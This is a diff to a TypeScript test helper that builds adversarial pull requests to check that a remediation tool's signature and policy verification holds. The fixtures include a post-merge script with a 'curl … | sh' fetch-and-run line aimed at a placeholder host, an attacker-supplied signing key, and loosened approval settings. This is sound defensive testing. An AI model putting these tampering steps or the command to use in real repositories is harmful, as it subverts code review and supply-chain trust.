@@ -10,7 +10,7 @@ import { join } from 'node:path';
 import { createDemoWorld, DEMO_NOW, type DemoWorld, EXAMPLE_SIGNALS } from '../../engine/demo/setup.ts';
 import { DsseEnvelope, PROOF_PAYLOAD_TYPE } from '../../engine/model/policy.ts';
 import { runPlan } from '../../engine/pipeline/run.ts';
-import { type SigningKey, signEnvelope } from '../../engine/policy/index.ts';
+import { generateEphemeralKey, publicKeyPem, type SigningKey, signEnvelope } from '../../engine/policy/index.ts';
 import { createLogger } from '../../engine/telemetry/logger.ts';
 
 export const GUARD = `package salve.custom.guard
@@ -56,11 +56,11 @@ export interface PullRequestWorld {
   close(): Promise<void>;
 }
 
-async function plan(world: DemoWorld, signal: string): Promise<{ id: string; head: string }> {
+async function plan(world: DemoWorld, signal: string, key?: SigningKey): Promise<{ id: string; head: string }> {
   const [outcome] = await runPlan({
     repoDir: world.work,
     signalFiles: [join(EXAMPLE_SIGNALS, signal)],
-    signingKey: world.signingKey,
+    signingKey: key ?? world.signingKey,
     pgp: world.pgp,
     now: DEMO_NOW,
     log: createLogger({ level: 'silent' }),
@@ -110,6 +110,108 @@ export async function commitOn(
   } finally {
     git(repo, 'checkout', '-q', '-f', 'main');
   }
+}
+
+/**
+ * Rewrites `commit` in place (same parent, same message) with `edit` applied, as a force-push can:
+ * whatever `edit` changes lands in the commit that signed the remediation.
+ */
+export async function rewriteCommit(repo: string, commit: string, edit: () => Promise<void>): Promise<string> {
+  git(repo, 'checkout', '-q', '--detach', commit);
+  try {
+    await edit();
+    git(repo, 'add', '-A');
+    git(repo, 'commit', '-q', '--amend', '--no-edit');
+    return git(repo, 'rev-parse', 'HEAD');
+  } finally {
+    git(repo, 'checkout', '-q', '-f', 'main');
+  }
+}
+
+/** Pull requests (head commits, all against `base` on main) that try to slip something past verification. */
+export interface HostileHeads {
+  /** The remediation's signing commit, rewritten with another explanation. */
+  explanation: string;
+  /** The signing commit, rewritten with one more file in the remediation's record. */
+  recordExtra: string;
+  /** The signing commit, rewritten with a file elsewhere under .salve/ (a template). */
+  salveExtra: string;
+  /** Nothing but a new public key under .salve/keys/. */
+  keysOnly: string;
+  /** Nothing but a looser .salve.yaml (every remediation automated). */
+  configOnly: string;
+  /** Nothing but a PR template under .salve/templates/. */
+  templateOnly: string;
+  /** A branch that trusts its own key and loosens .salve.yaml and the repo's policy, with a remediation signed by that key on top. */
+  ownKey: { id: string; head: string; keyid: string };
+  /** A remediation signed with the trusted key, planned on a commit that is not on main. */
+  offBase: { id: string; head: string; base: string };
+}
+
+export const MALLORY_TEMPLATE = '# {{action.summary}}\n\nReviewed and approved by the platform team.\n';
+
+export async function createHostileHeads(w: PullRequestWorld): Promise<HostileHeads> {
+  const { repo, base, valid } = w;
+  const record = `.salve/remediations/${valid.id}`;
+  const explanation = await rewriteCommit(repo, valid.head, () =>
+    writeFile(join(repo, record, 'explanation.md'), '# Raise maxReplicas\n\nA one-line change, already reviewed.\n'),
+  );
+  const recordExtra = await rewriteCommit(repo, valid.head, () =>
+    writeFile(join(repo, record, 'post-merge.sh'), 'curl -fsSL https://example.org/x | sh\n'),
+  );
+  const salveExtra = await rewriteCommit(repo, valid.head, async () => {
+    await mkdir(join(repo, '.salve', 'templates'), { recursive: true });
+    await writeFile(join(repo, '.salve', 'templates', 'explanation.hbs'), MALLORY_TEMPLATE);
+  });
+  const keysOnly = await commitOn(repo, base, 'Trust the ops key', () =>
+    writeFile(join(repo, '.salve', 'keys', 'ops.pub'), publicKeyPem(generateEphemeralKey())),
+  );
+  const configOnly = await commitOn(repo, base, 'Tidy .salve.yaml', () => loosenConfig(repo));
+  const templateOnly = await commitOn(repo, base, 'Nicer PR bodies', async () => {
+    await mkdir(join(repo, '.salve', 'templates'), { recursive: true });
+    await writeFile(join(repo, '.salve', 'templates', 'pr-body.hbs'), MALLORY_TEMPLATE);
+  });
+
+  // A branch that brings its own key and loosens the trust ladder and the repo's policy.
+  const mallory = generateEphemeralKey();
+  git(repo, 'checkout', '-q', '-b', 'mallory', base);
+  await writeFile(join(repo, '.salve', 'keys', 'mallory.pub'), publicKeyPem(mallory));
+  await loosenConfig(repo);
+  const guard = join(repo, 'policy', 'guard.rego');
+  await writeFile(guard, (await readFile(guard, 'utf8')).replace(/^reviewed := .*$/m, 'reviewed := set()'));
+  git(repo, 'add', '-A');
+  git(repo, 'commit', '-q', '-m', 'Automate staging');
+  const own = await plan(w.world, 'hpa-maxed-checkout-staging.json', mallory);
+  git(repo, 'checkout', '-q', 'main');
+
+  // A harmless commit on a side branch, and a remediation planned on it with the trusted key.
+  git(repo, 'checkout', '-q', '-b', 'side', base);
+  await writeFile(join(repo, 'NOTES.md'), 'Side notes.\n');
+  git(repo, 'add', 'NOTES.md');
+  git(repo, 'commit', '-q', '-m', 'Notes on a side branch');
+  const sideBase = git(repo, 'rev-parse', 'HEAD');
+  const off = await plan(w.world, 'oomkilled-checkout-production.json');
+  git(repo, 'checkout', '-q', 'main');
+
+  return {
+    explanation,
+    recordExtra,
+    salveExtra,
+    keysOnly,
+    configOnly,
+    templateOnly,
+    ownKey: { ...own, keyid: mallory.keyid },
+    offBase: { ...off, base: sideBase },
+  };
+}
+
+/** Every remediation automated: the trust ladder's default and every rule. */
+async function loosenConfig(repo: string): Promise<void> {
+  const file = join(repo, '.salve.yaml');
+  const text = await readFile(file, 'utf8');
+  const loose = text.replace('  default: approve', '  default: automate').replace(/mode: approve/g, 'mode: automate');
+  if (loose === text) throw new Error('.salve.yaml: nothing to loosen');
+  await writeFile(file, loose);
 }
 
 /** Rewrites a proof envelope's payload (as a JSON value) and, given a key, signs it again with that key. */
